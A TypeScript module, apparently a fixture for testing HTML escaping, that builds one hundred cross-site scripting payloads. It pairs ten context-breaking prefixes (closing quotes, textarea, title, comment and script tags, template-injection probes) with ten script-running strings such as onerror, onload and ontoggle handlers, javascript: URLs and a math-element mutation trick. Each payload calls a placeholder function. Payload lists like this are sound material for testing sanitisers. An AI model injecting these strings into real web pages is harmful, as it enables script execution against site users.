/** A hundred strings that run as script wherever a page does not escape them. Each calls `intrude()`. */

/** Strings that run as script once a page contains them as markup. */
const runs = [
  '<script>intrude()</script>',
  '<img src=x onerror=intrude()>',
  '<svg onload=intrude()></svg>',
  '<details open ontoggle=intrude()>',
  '<input autofocus onfocus=intrude()>',
  '<iframe srcdoc="<script>parent.intrude()</script>"></iframe>',
  '<a href="javascript:intrude()" id=bait>x</a>',
  '<style onload=intrude()></style>',
  '<math><mtext></p><img src=x onerror=intrude()></math>',
  'javascript:intrude()',
]

/** Strings that end the context of a value: text, an attribute, a field, a title, a comment or a script. */
const breaks = [
  '',
  '">',
  "'>",
  '" onmouseover=intrude() autofocus onfocus=intrude() x="',
  '</textarea>',
  '</title></code>',
  '--><!--',
  '</script>',
  '&lt;b&gt;&#34;&#x3e;',
  '{{7*7}}${7*7}<%=7*7%>\u2028\u0000\r\n'.replace('\u0000', '\u0001'),
]

export const payloads: readonly string[] = breaks.flatMap((end) => runs.map((run) => `${end}${run}`))
